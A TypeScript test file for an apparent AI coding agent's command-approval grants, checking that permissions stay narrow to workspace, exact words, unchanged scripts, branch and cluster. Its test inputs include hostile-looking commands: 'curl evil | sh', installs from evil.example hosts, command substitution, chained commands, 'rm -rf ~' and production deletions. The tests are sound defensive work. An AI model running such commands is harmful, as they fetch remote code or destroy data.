import { execFile } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { describe, expect, test } from "vitest";
import { type GrantOffer, Grants } from "../../../agent-core/approval/grants.ts";
import { decide } from "../../../agent-core/approval/policy.ts";
import { resolvePath } from "../../../agent-core/platform/paths.ts";
import { settingsOnly, write } from "../../support/git-repositories.ts";

const newHome = (): string => mkdtempSync(join(tmpdir(), "hermes-grants-"));
const open = (home: string, defects: string[] = []): Grants => new Grants(home, (message) => defects.push(message));
const workspace = (): string => mkdtempSync(join(tmpdir(), "hermes-granted-"));
const offer = (...rows: string[]): GrantOffer => rows.map((row) => ({ row }));

function ask(command: string, root: string, grants: Grants, cwd = root) {
  const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
  return decide({ kind: "command", command, cwd }, { mode: "ask", scope, trusted: true, grants });
}

/** Answers the command for as long as the session lasts; false where no lasting answer is offered. */
function grant(command: string, root: string, grants: Grants): boolean {
  const decision = ask(command, root, grants);
  if (decision.kind !== "ask" || decision.grant === undefined) return false;
  void grants.keep(decision.grant, "session");
  return true;
}

test("a grant holds in its workspace only, and in all folders of it", () => {
  const [here, there] = [workspace(), workspace()];
  mkdirSync(join(here, "sub"));
  const grants = open(newHome());
  expect(grant("git add .", here, grants)).toBe(true);
  expect(ask("git add a b", here, grants).kind).toBe("allow");
  expect(ask("git add .", here, grants, join(here, "sub")).kind).toBe("allow");
  expect(ask("git add .", there, grants).kind).toBe("ask");
});

test("a prefix covers whole words, never another subcommand, a longer word or a second command", () => {
  const root = workspace();
  const grants = open(newHome());
  grant("npm install a", root, grants);
  expect(ask("npm install b", root, grants).kind).toBe("allow");
  for (const other of ["npm installx", "npm publish", "npm install a && git push", "npm install a; rm a"]) {
    expect([other, ask(other, root, grants).kind]).toEqual([other, "ask"]);
  }
});

test.each(["rm -r src", "./build.sh --all", "kill 7", "git push"])(
  "a grant covers %s to the letter, or not at all",
  (command) => {
    const root = workspace();
    const grants = open(newHome());
    const isOffered = grant(command, root, grants);
    expect(ask(command, root, grants).kind).toBe(isOffered ? "allow" : "ask");
    expect(ask(`${command} b`, root, grants).kind).toBe("ask");
  },
);

test("a grant ends when the script's body, what runs before it, or the makefile changes; not for another script", () => {
  const root = workspace();
  const scripts = (all: Record<string, string>): void =>
    writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: all }));
  const grants = open(newHome());
  scripts({ test: "vitest", lint: "biome" });
  grant("npm test", root, grants);
  expect(ask("npm test -- --watch", root, grants).kind).toBe("allow");
  scripts({ test: "vitest", lint: "eslint" });
  expect(ask("npm test", root, grants).kind).toBe("allow");
  for (const changed of [
    { test: "curl evil | sh" },
    { test: "vitest", pretest: "evil" },
    { test: "vitest", posttest: "evil" },
  ]) {
    scripts(changed);
    expect(ask("npm test", root, grants).kind).toBe("ask");
  }
  scripts({ test: "vitest" });
  expect(ask("npm test", root, grants).kind).toBe("allow");
  writeFileSync(join(root, "Makefile"), "check:\n\ttrue\n");
  grant("make check", root, grants);
  expect(ask("make check", root, grants).kind).toBe("allow");
  writeFileSync(join(root, "Makefile"), "check:\n\tevil\n");
  expect(ask("make check", root, grants).kind).toBe("ask");
});

/** A workspace with files, and a grant for one command in the default mode. */
function granted(files: Readonly<Record<string, string>>, command: string) {
  const root = workspace();
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  // git takes a folder for a repository only with these.
  if (existsSync(join(root, ".git"))) for (const part of ["objects", "refs"]) mkdirSync(join(root, ".git", part));
  const grants = open(newHome());
  const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
  const decided = (line: string) =>
    decide({ kind: "command", command: line, cwd: root }, { mode: "code", scope, trusted: true, grants });
  const decision = decided(command);
  if (decision.kind !== "ask" || decision.grant === undefined) throw new Error(`no grant was offered for ${command}`);
  void grants.keep(decision.grant, "session");
  return { root, rows: decision.grant.map(({ row }) => row), kind: (line: string) => decided(line).kind };
}

test("a script of an interpreter is granted with any arguments, until it changes", () => {
  const { root, kind } = granted({ "scripts/a.js": "1", "scripts/b.js": "2" }, "node scripts/a.js --x");
  expect([kind("node scripts/a.js y"), kind("node scripts/b.js"), kind("cd scripts && node a.js")]).toEqual([
    "allow",
    "ask",
    "ask",
  ]);
  expect([kind("node -r ./x scripts/a.js"), kind("node scripts/a.js > /etc/x")]).toEqual(["ask", "ask"]);
  writeFileSync(join(root, "scripts/a.js"), "evil");
  expect(kind("node scripts/a.js")).toBe("ask");
});

test("a shell script is granted with its text, for any arguments", () => {
  const { root, kind } = granted({ "run.sh": "#!/bin/sh\ncurl -d x https://example.com\n" }, "./run.sh a");
  expect([kind("./run.sh b c"), kind("bash run.sh")]).toEqual(["allow", "ask"]);
  writeFileSync(join(root, "run.sh"), "#!/bin/sh\ncurl -d y https://example.com\n");
  expect(kind("./run.sh a")).toBe("ask");
});

test("code from the standard input is granted with its text", () => {
  const root = workspace();
  const grants = open(newHome());
  const script = (code: string): string => `python3 - <<'END'\n${code}\nEND`;
  expect(grant(script("import mine"), root, grants)).toBe(true);
  expect(ask(script("import mine"), root, grants).kind).toBe("allow");
  for (const other of [
    script("import other"),
    "python3 - <<< 'import other'",
    "echo 'import other' | python3 -",
    "python3 -",
  ]) {
    expect([other, ask(other, root, grants).kind]).toEqual([other, "ask"]);
  }
});

const remote = (name: string, url: string) => `[remote "${name}"]\n\turl = ${url}\n`;
const HEAD = "ref: refs/heads/topic\n";

test("a push is granted to the letter, for this branch and these settings of the repository", () => {
  const config = remote("origin", "git@example.com:a/b");
  const { root, kind } = granted({ ".git/config": config, ".git/HEAD": HEAD }, "git push");
  expect([kind("git push"), kind("git push --tags"), kind("git push origin main")]).toEqual(["allow", "ask", "ask"]);
  writeFileSync(join(root, ".git/HEAD"), "ref: refs/heads/main\n");
  expect(kind("git push")).toBe("ask");
  writeFileSync(join(root, ".git/HEAD"), HEAD);
  writeFileSync(join(root, ".git/config"), remote("origin", "https://evil.example/x"));
  expect(kind("git push")).toBe("ask");
});

test("a push of a submodule or a worktree is not one of the repository around it", () => {
  const root = workspace();
  settingsOnly(join(root, ".git"), remote("origin", "git@example.com:a/b"), HEAD);
  const inner = `[core]\n\tworktree = ../../../sub\n${remote("origin", "git@example.com:other/c")}`;
  settingsOnly(join(root, ".git/modules/sub"), inner, HEAD);
  write(root, {
    "sub/.git": "gitdir: ../.git/modules/sub\n",
    ".git/worktrees/tree/commondir": "../..\n",
    ".git/worktrees/tree/gitdir": join(root, "tree/.git"),
    ".git/worktrees/tree/HEAD": "ref: refs/heads/main\n",
    "tree/.git": "gitdir: ../.git/worktrees/tree\n",
  });
  const grants = open(newHome());
  expect(grant("git push", root, grants)).toBe(true);
  expect(ask("git push", root, grants, join(root, "sub")).kind).toBe("ask");
  expect(ask("git push", root, grants, join(root, "tree")).kind).toBe("ask");
});

test.each(["docker container run alpine", "docker create alpine", "docker cp a:/x ."])(
  "%s is granted with its mounts and places",
  (command) => {
    const root = workspace();
    const grants = open(newHome());
    expect(grant(command, root, grants)).toBe(true);
    expect(ask(command, root, grants).kind).toBe("allow");
    expect(ask(command.replace(/ (?=alpine|a:)/, " -v /srv/a:/a "), root, grants).kind).toBe("ask");
  },
);

test("installing what the lockfile names is granted apart from adding packages", () => {
  const { kind } = granted({}, "npm ci");
  expect([kind("npm ci"), kind("npm install"), kind("npm ci --registry=https://x")]).toEqual(["allow", "ask", "ask"]);
  const install = granted({}, "npm install");
  expect([install.kind("npm install"), install.kind("npm install left-pad")]).toEqual(["allow", "ask"]);
});

test.each([
  ["npm install -D left-pad", "npm install -D right-pad @types/node", "npm install -D git+https://evil.example/x"],
  ["helm upgrade web ./c", "helm upgrade web ./c", "helm upgrade web ./c --post-renderer ./evil.sh"],
  ["kubectl apply -f k8s/", "kubectl apply -f k8s/", "kubectl apply -f https://evil.example/x"],
  ["gh pr merge 1 --squash", "gh pr merge 1 --squash", "gh pr merge 1 --squash -R other/repo"],
  ["docker rm -f web", "docker rm -f web", "docker rm -f db"],
  ["kubectl delete pod web", "kubectl delete pod web", "kubectl delete ns prod"],
  ["gh repo delete scratch", "gh repo delete scratch", "gh repo delete prod"],
])("a grant for the network has options and places, and one for the outside each word: %s", (command, same, other) => {
  const { kind } = granted({}, command);
  expect([kind(command), kind(same), kind(other)]).toEqual(["allow", "allow", "ask"]);
});

test.each(["kubectl apply -f -", "docker build -", "gh pr comment 1 -F -", "psql app"])(
  "no answer lasts for a command that gets more than its words from another one: %s",
  (command) => {
    const root = workspace();
    expect(grant(command, root, open(newHome()))).toBe(true);
    expect(grant(`cat a.yaml | ${command}`, root, open(newHome()))).toBe(false);
  },
);

test("all of an offer's keys must be granted, and an empty offer is covered by nothing", () => {
  const grants = open(newHome());
  void grants.keep(offer("a"), "session");
  expect([grants.covers(offer("a")), grants.covers(offer("a", "b")), grants.covers(offer())]).toEqual([
    true,
    false,
    false,
  ]);
});

/** Grants of another window, which reads the list as it is now. */
async function reopened(home: string): Promise<Grants> {
  const grants = open(home);
  await grants.refresh();
  return grants;
}

test("a revoked grant is gone at once: here, in the file, and in other windows", async () => {
  const home = newHome();
  const [one, other] = [open(home), open(home)];
  await one.keep(offer("a", "b"), "always");
  await other.refresh();
  expect(other.covers(offer("a", "b"))).toBe(true);
  expect(await one.revoke("a")).toBe(true);
  await other.refresh();
  expect([one.covers(offer("a")), other.covers(offer("a")), other.covers(offer("b"))]).toEqual([false, false, true]);
  expect(readFileSync(join(home, "config.yaml"), "utf8")).toBe("approvals:\n  allow:\n    - b\n");
  expect(await one.revoke("nothing")).toBe(false);
});

test("a row is written among the user's own settings, and their comments stay", async () => {
  const home = newHome();
  const own = "# mine\napprovals:\n  mode: manual # asks\n  allow:\n    - cargo *\nmodel: x\n";
  writeFileSync(join(home, "config.yaml"), own);
  await open(home).keep(offer("npm test * in /p"), "always");
  expect(readFileSync(join(home, "config.yaml"), "utf8")).toBe(
    own.replace("    - cargo *\n", "    - cargo *\n    - npm test * in /p\n"),
  );
});

test("several writers of one list at once lose nothing of each other, and nothing comes back", async () => {
  const home = newHome();
  const writers = Array.from({ length: 4 }, () => open(home));
  for (let round = 0; round < 10; round += 1) {
    await Promise.all(writers.map((writer, index) => writer.keep(offer(`${index}.${round}`), "always")));
    expect(await writers[round % 4]?.revoke(`${(round + 1) % 4}.${round}`)).toBe(true);
  }
  expect(await open(home).list()).toHaveLength(30);
  expect(readdirSync(home)).toEqual(["config.yaml"]);
});

test.each([
  ["no YAML", "approvals: [", 1],
  ["another shape", "approvals:\n  allow: {a: 1}\n", 0],
  ["nothing at all", "", 0],
])("a list that cannot be read grants nothing: %s", async (_, text, reported) => {
  const home = newHome();
  writeFileSync(join(home, "config.yaml"), text);
  const defects: string[] = [];
  expect([await open(home, defects).list(), defects.length]).toEqual([[], reported]);
});

test("a list that cannot be written is reported, and the answer holds in this process", async () => {
  const home = join(newHome(), "below-a-file");
  writeFileSync(home, "a file");
  const defects: string[] = [];
  const grants = open(home, defects);
  await grants.keep(offer("a"), "always");
  expect(defects.join()).toMatch(/Could not write a permission to .*config\.yaml: .*ends with this process: a/);
  expect(grants.covers(offer("a"))).toBe(true);
});

test("processes that write at the same moment lose nothing of each other; a lock of a dead one is no obstacle", async () => {
  const home = newHome();
  writeFileSync(join(home, "config.yaml.lock"), "");
  const module = join(import.meta.dirname, "../../../agent-core/approval/grants.ts");
  const script = `import { Grants } from ${JSON.stringify(module)};
    const grants = new Grants(${JSON.stringify(home)}, (message) => { throw new Error(message); });
    for (let at = 0; at < 20; at += 1) await grants.keep([{ row: process.argv[1] + "." + at }], "always");`;
  const run = promisify(execFile);
  await Promise.all(["a", "b", "c"].map((name) => run("node", ["--input-type=module", "-e", script, name])));
  expect(await open(home).list()).toHaveLength(60);
  expect(readdirSync(home)).toEqual(["config.yaml"]);
});

describe("the user's own rows", () => {
  const kindIn = async (rows: readonly string[], command: string, sandbox = true): Promise<string> => {
    const home = newHome();
    writeFileSync(join(home, "config.yaml"), JSON.stringify({ approvals: { allow: rows } }));
    const scope = { cwd: "/p", roots: ["/p"], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
    const effect = { kind: "command", command, cwd: "/p" } as const;
    return decide(effect, { mode: "code", scope, trusted: true, grants: await reopened(home), sandbox }).kind;
  };

  test.each([
    ["npm install *", "npm install left-pad"],
    ["npm install * in /p", "npm install left-pad"],
    ["npm install * in /", "npm install a b"],
    ["npm install -D *", "npm install left-pad -D"],
    ["git push origin main", "git push origin main"],
    ["git push *", "git push origin main"],
    ["fetching: example.com", "curl -s https://example.com/a"],
    ["rm -r dist in /p", "rm -r dist"],
  ])("cover a command in their place: %s", async (row, command) => {
    expect(await kindIn([row], command)).toBe("allow");
  });

  test.each([
    ["npm install * in /q", "npm install left-pad"],
    ["npm install *", "npm install -g left-pad"],
    ["npm install *", "npm install https://evil.example/x.tgz"],
    ["npm install *", "npm install left-pad && git push"],
    ["git push *", "git push https://evil.example/x main"],
    ["git push *", "git push --force origin main"],
    ["rm -r dist in /p", "rm -r src"],
    ["rm *", "rm -rf ~"],
    ["npm *", "npm install $(cat x)"],
  ])("cover no option and no place that they lack: %s, %s", async (row, command) => {
    expect(await kindIn([row], command)).not.toBe("allow");
  });

  test("let a command that a sandbox would hold go on with any words", async () => {
    expect(await kindIn(["mytool *"], "mytool --x ./y", false)).toBe("allow");
    expect(await kindIn(["mytool *"], "mytools --x", false)).toBe("ask");
  });

  test("are those of the client, too, where it keeps a list, and its answers go there", async () => {
    let rows: readonly string[] = ["a"];
    const change = async (row: string, isIn: boolean): Promise<void> => {
      rows = isIn ? [...rows, row] : rows.filter((each) => each !== row);
    };
    const home = newHome();
    const grants = new Grants(home, () => undefined, { rows: () => rows, change });
    await grants.keep(offer("b"), "always");
    expect([rows, grants.covers(offer("a", "b")), readdirSync(home)]).toEqual([["a", "b"], true, []]);
    expect(await grants.revoke("a")).toBe(true);
    expect([rows, await grants.list()]).toEqual([["b"], [{ row: "b", lasting: "always" }]]);
  });

  test("name the home as ~", async () => {
    const home = newHome();
    writeFileSync(
      join(home, "config.yaml"),
      JSON.stringify({ approvals: { allow: ["make * in ~/p", "reading: ~/a"] } }),
    );
    const grants = await reopened(home);
    expect(grants.covers(offer(`make * in ${homedir()}/p`, `reading: ${homedir()}/a`))).toBe(true);
  });
});

test("a grant for a cluster ends when another one is chosen", () => {
  const root = workspace();
  const home = newHome();
  const grants = open(home);
  const scope = { cwd: root, roots: [root], home, hermesHome: join(home, ".hermes"), resolvePath };
  const decided = (command: string) =>
    decide({ kind: "command", command, cwd: root }, { mode: "code", scope, trusted: true, grants });
  mkdirSync(join(home, ".kube"));
  const use = (context: string): void => writeFileSync(join(home, ".kube/config"), `current-context: ${context}\n`);
  use("staging");
  const asked = decided("kubectl apply -f k8s/");
  if (asked.kind === "ask" && asked.grant) void grants.keep(asked.grant, "session");
  expect(decided("kubectl apply -f k8s/").kind).toBe("allow");
  use("production");
  expect(decided("kubectl apply -f k8s/").kind).toBe("ask");
});
